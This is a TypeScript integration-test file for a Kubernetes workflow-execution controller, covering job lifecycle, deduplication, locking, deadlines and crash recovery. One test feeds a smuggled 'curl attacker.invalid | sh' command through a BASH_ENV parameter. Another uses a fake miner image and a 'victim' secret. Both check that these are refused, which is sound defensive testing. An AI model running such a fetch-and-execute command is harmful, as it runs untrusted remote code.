/**
 * Past 350 lines: the job engine's lifecycle through the controller on one control plane per
 * file; a split would start another plane for the same controller set-up.
 */
import { Registry, type WorkflowExecution } from '@roundhouse/core';
import { JobExecutor } from '@roundhouse/job';
import { KubeClient, type Reader, resources } from '@roundhouse/kube';
import { describeWithControlPlane, podControls } from '@roundhouse/testenv/vitest';
import { ensureWorkflowExecutionCrd, workflowExecutions } from '@roundhouse/workflowexecution';
import { beforeAll, expect, it, vi } from 'vitest';
import { type ControllerSettings, useController } from './controller-fixture.js';
import { condition, jobRegistry, type Manifest, manifest, patience } from './harness.js';

describeWithControlPlane('WorkflowExecution controller with the job engine', () => {
  const cluster = useController('wfe-job');
  const { env, client } = cluster;

  beforeAll(async () => {
    // Tests that play a crashed controller write executions before any controller starts.
    await ensureWorkflowExecutionCrd(client());
  });

  const start = (overrides: Partial<ControllerSettings> = {}) =>
    cluster.start({
      registry: jobRegistry(env.kubeConfig, { runSeconds: 1 }),
      cooldownMs: 60_000,
      // Only events can wake the controller within the test's patience: proves it is event-driven.
      resyncMs: 600_000,
      ...overrides,
    });

  /**
   * Runs an execution on `held` (its Job running ten minutes), then one on `again` while the
   * first runs: returns both, the second once it failed.
   */
  async function whileHeld(held: string, again: string) {
    await start({ registry: jobRegistry(env.kubeConfig, { runSeconds: 600 }) });
    const first = await cluster.apply(manifest({ target: held }));
    await cluster.waitForPhase(first.metadata.name, 'Running');
    const second = await cluster.apply(manifest({ target: again }));
    const failed = await cluster.waitForPhase(second.metadata.name, 'Failed');
    return { first, second, failed };
  }

  /**
   * Plays a controller that crashed once it had created the execution's Job (its pod running
   * `runSeconds`), before it recorded the Job anywhere: applies `written` and creates the Job.
   */
  async function crashAfterCreate(written: Manifest, runSeconds: number) {
    const executor = new JobExecutor(new KubeClient(env.kubeConfig), {
      podAnnotations: { [podControls.runSeconds]: String(runSeconds) },
    });
    const wfe = await cluster.apply(written);
    const parsed = (await cluster.read(wfe.metadata.name)) as WorkflowExecution;
    const { resourceName } = await executor.create(parsed, cluster.executionNamespace);
    return { executor, parsed, name: wfe.metadata.name, job: resourceName };
  }

  it("runs an execution to Completed through a real Job, woken by the Job's events", async () => {
    await start();
    const wfe = await cluster.apply(manifest({ parameters: { REPLICAS: '3' } }));
    const running = await cluster.waitForPhase(wfe.metadata.name, 'Running');
    expect(running.status?.executionRef?.name).toMatch(/^wfe-[0-9a-f]{16}$/);
    expect(running.status?.startTime).toBeDefined();
    const done = await cluster.waitForPhase(wfe.metadata.name, 'Completed');
    expect(done.status).toMatchObject({
      executionStatus: { status: 'True', completedTasks: 1, totalTasks: 1 },
      observedGeneration: 1,
    });
    expect(done.status?.duration).toMatch(/^\d+s$/);
    expect(condition(done, 'Ready')).toMatchObject({
      status: 'True',
    });
    expect(done.metadata.finalizers).toContain('roundhouse.dev/execution-cleanup');
  });

  it("IT-WE-014-013/014: a completed Job leaves kubernaut's conditions: created (naming the Job), running, complete and ready, all True", async () => {
    await start();
    const wfe = await cluster.apply(manifest());
    const done = await cluster.waitForPhase(wfe.metadata.name, 'Completed');
    const job = done.status?.executionRef?.name as string;
    const conditions = Object.fromEntries((done.status?.conditions ?? []).map((c) => [c.type, c]));
    expect(conditions.ExecutionCreated).toMatchObject({
      status: 'True',
      reason: 'ExecutionCreated',
      message: expect.stringContaining(job),
    });
    expect(conditions.ExecutionRunning).toMatchObject({
      status: 'True',
      reason: 'ExecutionStarted',
    });
    expect(conditions.ExecutionComplete).toMatchObject({
      status: 'True',
      reason: 'ExecutionSucceeded',
    });
    expect(conditions.Ready).toMatchObject({ status: 'True', reason: 'Ready' });
    expect(done.status?.failureDetails).toBeUndefined();
  });

  it('wakes an execution whose name is too long for a label through its Job, not by resync', async () => {
    await start();
    const name = `restart-${'a'.repeat(62)}`;
    expect(name).toHaveLength(70);
    const wfe = await cluster.apply(manifest({ name }));
    // resyncMs is ten minutes: only the Job's events, mapped to this name, can finish it in time.
    const done = await cluster.waitForPhase(wfe.metadata.name, 'Completed');
    const job = await client().get(
      resources.jobs,
      cluster.executionNamespace,
      done.status?.executionRef?.name as string,
    );
    expect(job?.metadata?.annotations?.['roundhouse.dev/workflow-execution']).toBe(name);
  });

  it("reads a watched Job's status from the cache, not from the API server", async () => {
    const live = new KubeClient(env.kubeConfig);
    const get = vi.spyOn(live, 'get');
    await start({ registry: jobRegistry(env.kubeConfig, { runSeconds: 2 }, live) });
    const wfe = await cluster.apply(manifest());
    const done = await cluster.waitForPhase(wfe.metadata.name, 'Completed');
    const jobReads = get.mock.calls.filter(([type]) => type === resources.jobs);
    // At most one live read: a status check racing the Job's first event into the cache.
    expect(jobReads.length).toBeLessThanOrEqual(1);
    expect(condition(done, 'ExecutionRunning')).toBeDefined();
  });

  it('fails with TaskFailed and the exit code when the workflow container fails', async () => {
    await start({ registry: jobRegistry(env.kubeConfig, { exitCode: 7 }) });
    const wfe = await cluster.apply(manifest());
    const failed = await cluster.waitForPhase(wfe.metadata.name, 'Failed');
    expect(failed.status?.failureDetails).toMatchObject({
      reason: 'TaskFailed',
      exitCode: 7,
      wasExecutionFailure: true,
    });
    expect(failed.status?.failureDetails?.message).toContain('exited with code 7');
  });

  it('IT-WE-374-002: fails fast as Deduplicated when another execution holds the target, naming it in deduplicatedBy and saying its resource already exists', async () => {
    const { first, failed } = await whileHeld('prod/deployment/locked', 'prod/deployment/locked');
    expect(failed.status?.failureDetails).toMatchObject({
      reason: 'Deduplicated',
      wasExecutionFailure: false,
    });
    expect(failed.status).toMatchObject({
      deduplicatedBy: first.metadata.name,
      failureReason: 'Deduplicated',
    });
    expect(failed.status?.failureDetails?.message).toContain(first.metadata.name);
    expect(failed.status?.failureDetails?.message).toContain('already exists');
    expect(await cluster.read(first.metadata.name).then((w) => w?.status?.phase)).toBe('Running');
  });

  it('fails as Deduplicated an execution that spells a held target another way, though its lock is another name', async () => {
    const { first, second, failed } = await whileHeld(
      'prod/Deployment/spelt',
      'prod/deployments/spelt',
    );
    expect(failed.status).toMatchObject({
      deduplicatedBy: first.metadata.name,
      failureReason: 'Deduplicated',
    });
    expect(await cluster.jobsOf(second.metadata.name)).toEqual([]);
  });

  it('runs one of two executions created at once that spell one target two ways', async () => {
    await start({ registry: jobRegistry(env.kubeConfig, { runSeconds: 600 }) });
    const [capital, plural] = await Promise.all([
      cluster.apply(manifest({ target: 'prod/Deployment/twice' })),
      cluster.apply(manifest({ target: 'prod/deployments/twice' })),
    ]);
    const phases = await vi.waitFor(async () => {
      const both = await Promise.all(
        [capital, plural].map((wfe) => cluster.read(wfe.metadata.name)),
      );
      const settled = both.map((wfe) => wfe?.status?.phase);
      expect(settled.toSorted()).toEqual(['Failed', 'Running']);
      return both;
    }, patience);
    const failed = phases.find((wfe) => wfe?.status?.phase === 'Failed');
    const running = phases.find((wfe) => wfe?.status?.phase === 'Running');
    expect(failed?.status).toMatchObject({
      deduplicatedBy: running?.metadata?.name,
      failureReason: 'Deduplicated',
    });
    expect(await cluster.jobsOf(failed?.metadata?.name as string)).toEqual([]);
  });

  it('waits in Pending for a busy target when configured to, then runs after the lock is released', async () => {
    await start({ lockPolicy: 'wait', cooldownMs: 1_000 });
    const first = await cluster.apply(manifest({ target: 'prod/deployment/queued' }));
    const second = await cluster.apply(manifest({ target: 'prod/deployment/queued' }));
    await cluster.waitForPhase(first.metadata.name, 'Completed');
    const waiting = await cluster.read(second.metadata.name);
    expect(['Pending', 'Running', 'Completed']).toContain(waiting?.status?.phase);
    await cluster.waitForPhase(second.metadata.name, 'Completed');
    const released = await cluster.read(first.metadata.name);
    expect(condition(released, 'LockReleased')?.status).toBe('True');
  });

  it('releases the lock after the cooldown by deleting the Job', async () => {
    await start({ cooldownMs: 2_000 });
    const wfe = await cluster.apply(manifest());
    const done = await cluster.waitForPhase(wfe.metadata.name, 'Completed');
    const job = done.status?.executionRef?.name as string;
    await vi.waitFor(async () => {
      const current = await cluster.read(wfe.metadata.name);
      expect(condition(current, 'LockReleased')?.status).toBe('True');
      expect(await client().get(resources.jobs, cluster.executionNamespace, job)).toBeNull();
    }, patience);
  });

  it('marks an execution whose Job was deleted by someone else as Failed, not an execution failure', async () => {
    await start({ registry: jobRegistry(env.kubeConfig, { runSeconds: 600 }) });
    const wfe = await cluster.apply(manifest());
    const running = await cluster.waitForPhase(wfe.metadata.name, 'Running');
    const job = running.status?.executionRef?.name as string;
    await client().delete(resources.jobs, cluster.executionNamespace, job, {
      propagationPolicy: 'Background',
    });
    const failed = await cluster.waitForPhase(wfe.metadata.name, 'Failed');
    expect(failed.status?.failureDetails).toMatchObject({
      reason: 'ExecutionResourceDeleted',
      wasExecutionFailure: false,
    });
    expect(failed.status?.failureDetails?.message).toContain(
      `${cluster.executionNamespace}/${job}`,
    );
  });

  it('cleans up the Job before a deleted execution goes (finalizer)', async () => {
    await start({ registry: jobRegistry(env.kubeConfig, { runSeconds: 600 }) });
    const wfe = await cluster.apply(manifest());
    const running = await cluster.waitForPhase(wfe.metadata.name, 'Running');
    const job = running.status?.executionRef?.name as string;
    await client().delete(workflowExecutions, env.namespace, wfe.metadata.name);
    await vi.waitFor(async () => {
      expect(await cluster.read(wfe.metadata.name)).toBeNull();
      expect(await client().get(resources.jobs, cluster.executionNamespace, job)).toBeNull();
    }, patience);
  });

  it('fails unsupported engines and invalid parameters without creating anything', async () => {
    await start();
    const argo = await cluster.apply(manifest({ engine: 'argo' }));
    const bad = await cluster.apply(manifest({ parameters: { TARGET_RESOURCE: 'x' } }));
    const unsupported = await cluster.waitForPhase(argo.metadata.name, 'Failed');
    expect(unsupported.status?.failureDetails).toMatchObject({
      reason: 'UnsupportedEngine',
      wasExecutionFailure: false,
    });
    expect(unsupported.status?.failureDetails?.message).toContain('(registered: [job])');
    const invalid = await cluster.waitForPhase(bad.metadata.name, 'Failed');
    expect(invalid.status?.failureDetails?.reason).toBe('ConfigurationError');
    expect(invalid.status?.failureDetails?.message).toContain('spec.parameters.TARGET_RESOURCE');
    expect(await cluster.jobsOf(bad.metadata.name)).toHaveLength(0);
  });

  it('refuses a parameter that would change which code the image runs, creating nothing', async () => {
    await start();
    const hostile = await cluster.apply(
      manifest({ parameters: { BASH_ENV: '$(curl -s attacker.invalid | sh)', REPLICAS: '3' } }),
    );
    const failed = await cluster.waitForPhase(hostile.metadata.name, 'Failed');
    expect(failed.status?.failureDetails).toMatchObject({
      reason: 'ConfigurationError',
      wasExecutionFailure: false,
    });
    expect(failed.status?.failureDetails?.message).toContain('spec.parameters.BASH_ENV');
    expect(JSON.stringify(failed.status)).not.toContain('attacker.invalid');
    expect(await cluster.jobsOf(hostile.metadata.name)).toHaveLength(0);
  });

  it('refuses what its policy does not allow and dependencies that are missing or did not opt in, creating nothing', async () => {
    await start();
    const admin = client();
    await admin.create(resources.secrets, cluster.executionNamespace, {
      metadata: { name: 'victim' },
      data: { password: Buffer.from('s3cret').toString('base64') },
    });
    const cases = [
      {
        manifest: manifest({ dependencies: { secrets: [{ name: 'victim' }] } }),
        reason: 'Forbidden',
        says: 'roundhouse.dev/allowed-namespaces',
      },
      {
        // Refused like one that exists and did not opt in: the author learns nothing more.
        manifest: manifest({ dependencies: { configMaps: [{ name: 'absent' }] } }),
        reason: 'Forbidden',
        says: 'ConfigMap "absent" in namespace',
      },
      {
        manifest: manifest({ bundle: 'evil.example.com/miner:1' }),
        reason: 'Forbidden',
        says: 'evil.example.com/miner:1',
      },
      {
        manifest: manifest({ serviceAccountName: 'cluster-admin' }),
        reason: 'Forbidden',
        says: 'cluster-admin',
      },
    ];
    const applied = await Promise.all(cases.map((c) => cluster.apply(c.manifest)));
    for (const [i, wfe] of applied.entries()) {
      const failed = await cluster.waitForPhase(wfe.metadata.name, 'Failed');
      expect(failed.status?.failureDetails).toMatchObject({
        reason: cases[i]?.reason,
        wasExecutionFailure: false,
      });
      expect(failed.status?.failureDetails?.message).toContain(cases[i]?.says);
      expect(await cluster.jobsOf(wfe.metadata.name)).toHaveLength(0);
    }
    // The owner opts in: the same request now runs.
    await admin.patch(resources.secrets, cluster.executionNamespace, 'victim', {
      metadata: { annotations: { 'roundhouse.dev/allowed-namespaces': env.namespace } },
    });
    const allowed = await cluster.apply(
      manifest({ dependencies: { secrets: [{ name: 'victim' }] } }),
    );
    await cluster.waitForPhase(allowed.metadata.name, 'Completed');
  });

  it('stops an execution its engine lets run past the deadline, failing it DeadlineExceeded', async () => {
    // The Job sets no deadline of its own (no timeout in the spec), so only the controller's
    // default deadline can end it.
    await start({
      registry: jobRegistry(env.kubeConfig, { runSeconds: 600 }),
      defaultTimeoutMs: 1_000,
      deadlineGraceMs: 0,
    });
    const wfe = await cluster.apply(manifest());
    const failed = await cluster.waitForPhase(wfe.metadata.name, 'Failed');
    expect(failed.status?.failureDetails).toMatchObject({
      reason: 'DeadlineExceeded',
      wasExecutionFailure: true,
    });
    expect(await cluster.jobsOf(wfe.metadata.name)).toHaveLength(0);
  });

  it('resumes after a restart without creating a second Job', async () => {
    const registry = jobRegistry(env.kubeConfig, { runSeconds: 4 });
    const first = await start({ registry });
    const wfe = await cluster.apply(manifest());
    await cluster.waitForPhase(wfe.metadata.name, 'Running');
    await first.stop();
    await start({ registry });
    await cluster.waitForPhase(wfe.metadata.name, 'Completed');
    expect(await cluster.jobsOf(wfe.metadata.name)).toHaveLength(1);
  });

  it('keeps the verdict of a Job its TTL deleted while the controller was down', async () => {
    const registry = (reader: Reader) =>
      new Registry().register(
        new JobExecutor(client(), {
          podAnnotations: { [podControls.runSeconds]: '2' },
          ttlSecondsAfterFinished: 1,
          reader,
        }),
      );
    const first = await start({ registry });
    const wfe = await cluster.apply(manifest());
    const running = await cluster.waitForPhase(wfe.metadata.name, 'Running');
    await first.stop();
    const job = running.status?.executionRef?.name as string;
    await vi.waitFor(async () => {
      expect(await client().get(resources.jobs, cluster.executionNamespace, job)).toBeNull();
    }, patience);
    await start({ registry });
    const done = await cluster.waitForPhase(wfe.metadata.name, 'Completed');
    expect(done.status?.failureDetails).toBeUndefined();
  });

  it('passes the Job only the parameters its workflow declares', async () => {
    await start({ resolveDeclaredParameters: async () => ['REPLICAS'] });
    const wfe = await cluster.apply(
      manifest({ parameters: { REPLICAS: '3', API_TOKEN: 'invented' } }),
    );
    await cluster.waitForPhase(wfe.metadata.name, 'Completed');
    const [job] = await cluster.jobsOf(wfe.metadata.name);
    const names = (
      job as { spec: { template: { spec: { containers: { env: { name: string }[] }[] } } } }
    ).spec.template.spec.containers[0]?.env.map((e) => e.name);
    expect(names).toContain('REPLICAS');
    expect(names).not.toContain('API_TOKEN');
  });

  it('adopts the Job a crashed controller created before it could record it', async () => {
    // The crashed controller got as far as creating the Job; the status still says nothing.
    const wfe = await crashAfterCreate(manifest(), 1);
    await start();
    const done = await cluster.waitForPhase(wfe.name, 'Completed');
    expect(await cluster.jobsOf(wfe.name)).toHaveLength(1);
    expect(done.status?.executionRef?.name).toBe(
      (await cluster.jobsOf(wfe.name))[0]?.metadata?.name,
    );
  });

  it('deletes the Job of an execution deleted while the controller was down, before its finalizer was written', async () => {
    // The crashed controller created both Jobs; the finalizer writes beside them never landed.
    const [gone, kept] = await Promise.all(
      [manifest(), manifest()].map(async (m) => {
        const crashed = await crashAfterCreate(m, 600);
        const job = await client().get(resources.jobs, cluster.executionNamespace, crashed.job);
        return { ...crashed, uid: job?.metadata?.uid };
      }),
    );
    if (!gone || !kept) throw new Error('two executions were set up');
    // Under the same owner, a Job as kubernaut's own controller makes it: no owner uid recorded,
    // so nothing tells whose it is, and it is left alone.
    const foreign = await gone.executor.create(
      {
        ...gone.parsed,
        metadata: { ...gone.parsed.metadata, uid: undefined },
        spec: {
          ...gone.parsed.spec,
          targetResource: `${gone.parsed.spec.targetResource}-kubernaut`,
        },
      },
      cluster.executionNamespace,
    );
    await client().delete(workflowExecutions, env.namespace, gone.name);
    expect(await cluster.read(gone.name)).toBeNull();

    await start();
    await vi.waitFor(async () => {
      const job = await client().get(resources.jobs, cluster.executionNamespace, gone.job);
      expect(job === null || job.metadata?.deletionTimestamp !== undefined).toBe(true);
    }, patience);
    const untouched = await client().get(
      resources.jobs,
      cluster.executionNamespace,
      foreign.resourceName,
    );
    expect(untouched).not.toBeNull();
    expect(untouched?.metadata?.deletionTimestamp).toBeUndefined();
    // The other execution's Job is its own: adopted, not deleted.
    const running = await cluster.waitForPhase(kept.name, 'Running');
    expect(running.status?.executionRef?.name).toBe(kept.job);
    const job = await client().get(resources.jobs, cluster.executionNamespace, kept.job);
    expect(job?.metadata?.uid).toBe(kept.uid);
    expect(job?.metadata?.deletionTimestamp).toBeUndefined();
  });

  it('deletes the Job an execution deleted while the controller was down left, when one of the same name takes its target', async () => {
    const first = await crashAfterCreate(manifest(), 600);
    const { parsed, job: resourceName } = first;
    const old = await client().get(resources.jobs, cluster.executionNamespace, resourceName);
    await client().delete(workflowExecutions, env.namespace, first.name);
    await vi.waitFor(async () => {
      expect(await cluster.read(first.name)).toBeNull();
    }, patience);
    const again = await cluster.apply(
      manifest({ name: first.name, target: parsed.spec.targetResource }),
    );

    await start({ registry: jobRegistry(env.kubeConfig, { runSeconds: 600 }) });
    const running = await cluster.waitForPhase(again.metadata.name, 'Running');
    expect(running.status?.executionRef?.name).toBe(resourceName);
    const job = await client().get(resources.jobs, cluster.executionNamespace, resourceName);
    expect(job?.metadata?.uid).not.toBe(old?.metadata?.uid);
    expect(job?.metadata?.annotations?.['roundhouse.dev/workflow-execution-uid']).toBe(
      again.metadata.uid,
    );
  });
});
